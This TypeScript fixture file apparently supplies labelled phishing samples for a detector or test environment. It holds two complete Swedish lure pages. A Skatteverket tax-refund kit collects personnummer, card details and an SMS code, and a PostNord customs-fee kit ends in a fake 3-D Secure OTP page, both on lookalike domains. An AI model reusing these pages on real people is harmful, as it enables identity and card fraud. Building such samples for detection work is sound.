import { type Entry, htmlRoute } from '../entry.js';
import { doc, logo, cardFields } from '../parts/yx-kit.js';

export const entries: Entry[] = [
(() => {
  const h = 'skatteverket-aterbaring.se-eservice.com';
  return {
    id: 'yx-skatteverket-aterbaring-card-kit',
    label: 'phishing',
    kind: 'tax-refund-lure-kit',
    url: `https://${h}/aterbetalning/ansok?arende=SKV-2025-118402`,
    body: doc({
      lang: 'sv',
      title: 'Skatteverket – Återbetalning av skatt',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f5f5f2;color:#1f1f1f}.hd{background:#fff;border-bottom:4px solid #006aa7;padding:12px 30px;display:flex;align-items:center;gap:12px;font-size:22px;font-weight:bold;color:#006aa7}
.w{max-width:600px;margin:30px auto;background:#fff;padding:30px}.sum{font-size:32px;color:#006aa7;font-weight:bold}.steps{display:flex;gap:8px;font-size:13px;color:#777}.steps b{color:#006aa7}.fld label{display:block;font-size:14px;margin-top:10px}.fld input,select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #888}.half{display:inline-block;width:48%;margin-right:2%}button{margin-top:18px;background:#006aa7;color:#fff;border:0;padding:12px 26px;font-size:16px}`,
      body: `<div class="hd">${logo.crown(34)} Skatteverket</div>
<div class="w"><div class="steps"><b>1. Uppgifter</b> › 2. Bankkort › 3. Bekräfta</div>
<h1>Slutlig skatt 2024 – återbetalning</h1><p>Efter en ny beräkning av din slutliga skatt har du rätt till en återbetalning på</p><p class="sum">4 317 kr</p>
<p>Eftersom du saknar registrerat konto hos Skatteverket kan beloppet betalas ut direkt till ditt bankkort. Ansök senast 3 dagar från utskicket, därefter överförs beloppet till Kronofogden.</p>
<form method="post" action="/aterbetalning/submit.php"><div class="fld"><label>Personnummer</label><input name="pnr" required></div><div class="fld"><label>Namn</label><input name="namn" required></div>
<div class="fld"><label>Din bank</label><select name="bank"><option>Swedbank</option><option>Handelsbanken</option><option>SEB</option><option>Nordea</option><option>Länsförsäkringar</option><option>ICA Banken</option><option>Skandiabanken</option></select></div>
${cardFields('sv', ['kortnr', 'utgang', 'cvc', 'innehavare'])}<button>Ta emot återbetalning</button></form>
<p style="font-size:12px;color:#777">Skatteverket · 171 94 Solna · Ärende SKV-2025-118402</p></div>`,
    }),
    routes: {
      [`${h}/aterbetalning/submit.php`]: htmlRoute(
        doc({
          lang: 'sv',
          title: 'Bekräfta',
          body: `<div style="max-width:420px;margin:60px auto;font-family:Arial">${logo.crown(30)}<h2>Bekräfta med engångskod</h2><p>Din bank har skickat en kod via SMS för att godkänna återbetalningen till ditt kort.</p><form method="post" action="otp.php"><input name="otp" maxlength="8" style="padding:10px;width:100%"><button style="margin-top:12px">Bekräfta</button></form></div>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
(() => {
  const h = 'postnord.se-tullavgift.com';
  return {
    id: 'yx-postnord-tullavgift-3ds-kit',
    label: 'phishing',
    kind: 'parcel-customs-fee-kit',
    url: `https://${h}/spara/UU884122045SE`,
    body: doc({
      lang: 'sv',
      title: 'PostNord – Betala tullavgift',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f0f5f9}.h{background:#fff;padding:14px 28px;border-bottom:1px solid #dde}.w{max-width:520px;margin:30px auto;background:#fff;padding:28px;border-radius:6px}.pk{display:flex;justify-content:space-between;background:#e6f3fb;padding:12px;border-radius:4px}.fld label{display:block;font-size:13px;margin-top:8px}.fld input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #9ab}.half{display:inline-block;width:48%;margin-right:2%}button{margin-top:16px;width:100%;padding:13px;background:#00a0d6;color:#fff;border:0;border-radius:4px;font-size:16px}.tl{border-left:3px solid #00a0d6;padding-left:14px;font-size:14px}`,
      body: `<div class="h">${logo.word('PostNord', '#00a0d6', 28)}</div><div class="w">
<h2>Ditt paket väntar på betalning</h2><div class="pk"><span>Försändelse-ID<br><b>UU 884 122 045 SE</b></span><span>Att betala<br><b>29,00 kr</b></span></div>
<div class="tl"><p>12 okt 08:14 – Ankommit till terminal, Stockholm Årsta</p><p>12 okt 09:02 – <b>Tullavgift och moms ej betald</b></p><p>Paketet returneras till avsändaren om avgiften inte betalas inom 48 timmar.</p></div>
<form method="post" action="/spara/pay.php">${cardFields('sv', ['card', 'exp', 'cvc', 'name'])}<div class="fld"><label>Mobilnummer för avisering</label><input name="tel"></div><button>Betala 29,00 kr</button></form>
<p style="font-size:11px;color:#888;text-align:center">PostNord Sverige AB · 105 00 Stockholm</p></div>`,
    }),
    routes: {
      [`${h}/spara/pay.php`]: htmlRoute(
        doc({
          lang: 'sv',
          title: '3-D Secure',
          css: `body{font-family:Arial;background:#fff}.s{max-width:380px;margin:40px auto;border:1px solid #ccc;padding:22px}`,
          body: `<div class="s"><p style="display:flex;justify-content:space-between"><b>Verified by Visa</b><b>Mastercard ID Check</b></p><p>Handlare: PostNord Sverige<br>Belopp: 29,00 SEK<br>Datum: ${'2025-10-12'}</p><p>Ange engångskoden som skickats till ditt mobilnummer, eller godkänn köpet i din banks app.</p><form method="post" action="/spara/otp.php"><input name="otp" maxlength="8" style="width:100%;padding:10px"><button style="margin-top:12px;width:100%;padding:10px">Bekräfta</button></form><p style="font-size:12px"><a href="#">Skicka ny kod</a></p></div>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
];
